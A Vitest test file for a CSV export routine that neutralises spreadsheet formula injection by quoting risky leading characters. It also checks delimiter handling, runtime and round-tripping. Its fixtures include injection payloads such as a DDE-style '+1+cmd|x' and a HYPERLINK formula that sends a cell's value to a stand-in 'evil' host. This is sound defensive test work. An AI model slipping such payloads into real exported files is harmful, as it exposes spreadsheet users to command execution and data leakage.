import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { belowOf, createRandom } from '#random.ts';
import { cellText, csvLine } from './csv-out.rules.ts';

it.each([
  ['+15551234567', '+15551234567'],
  ['+1 (555) 123-4567', '+1 (555) 123-4567'],
  ['-5', '-5'],
  ['=1+1', `"'=1+1"`],
  ['+1+cmd|x', `"'+1+cmd|x"`],
  ['-2+3+cmd', `"'-2+3+cmd"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['＝1+1', `"'＝1+1"`],
  ['\t=1', `"'\t'=1"`],
  ['\r=1', `"'\r'=1"`],
  ['+', `"'+"`],
  ['x;=1+1', `"x;'=1+1"`],
  ['x;y', '"x;y"'],
  ['x;+1 (555) 123-4567;-5', '"x;+1 (555) 123-4567;-5"'],
  ['x\t@SUM(A1)', `"x\t'@SUM(A1)"`],
  ['x\n=1', `"x\n'=1"`],
  ['x; "=1+1"', `"x;' ""=1+1"""`],
  ['a,b', '"a,b"'],
  ['say "no"', '"say ""no"""'],
  ['Zoë', 'Zoë'],
  ['', ''],
])('writes %j as %j', (cell, written) => {
  expect(csvLine([cell, 'x'])).toBe(`${written},x\r\n`);
});

describe('no reader finds a formula', () => {
  const BEGINS = [
    '=1+1',
    '@SUM(1)',
    '+1+cmd|x',
    '-2+3+cmd',
    '\t=1',
    '\r=1',
    '"=1+1"',
    ' =1',
    '=HYPERLINK("http://evil/?"&A1,"x")',
  ];
  const BEFORE = ['', 'x', 'x;', 'x\t', 'x\n', 'x;"', '";', 'x;;', ';"";', 'x\r\n', '",', "';"];
  const cells = BEFORE.flatMap((before) => BEGINS.map((begin) => before + begin));
  const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-][\d\s().-]*$/.test(cell);

  it.each([',', ';', '\t'])('that splits cells at %j', (delimiter) => {
    for (const cell of cells) {
      const { data } = Papa.parse<string[]>(csvLine(['1', cell, cell]) + csvLine([cell, 'x']), { delimiter });
      expect({ cell, found: data.flat().filter(isFormula) }).toEqual({ cell, found: [] });
    }
  });
});

it.each([
  ['+', '1'],
  ['x;', '=1;'],
  ['-', ' '],
  ['"', '"'],
  ['', ';'],
  ['+1', '\t+1'],
])('takes time in proportion to the cell: %j and many %j', (begin, many) => {
  const began = performance.now();
  csvLine([`${begin}${many.repeat(100_000)}x`]);
  expect(performance.now() - began).toBeLessThan(1_000);
});

describe('reads back what it writes', () => {
  const PARTS = [
    '=',
    '+',
    '-',
    '@',
    '＝',
    "'",
    "''",
    '"',
    '""',
    ',',
    ';',
    '|',
    '\t',
    '\n',
    '\r\n',
    '\r',
    ' ',
    '0',
    '0015',
    '+1 212',
    '="1"',
    '(5)',
    'Zoë',
    '李',
    '🙂',
    'a',
    'sep=;',
    '\ufffd',
    "'=",
    ";'=1",
    "'0",
  ];
  const random = belowOf(createRandom(8));
  const cell = () => Array.from({ length: random(5) }, () => PARTS[random(PARTS.length)]).join('');

  it('with any cells', () => {
    for (let round = 0; round < 20_000; round++) {
      const cells = [cell(), cell(), cell()];
      const [row] = Papa.parse<string[]>(csvLine(cells), { delimiter: ',', newline: '\r\n' }).data;
      expect({ cells, read: row?.map(cellText) }).toEqual({ cells, read: cells.map((each) => each.trim()) });
    }
  });
});
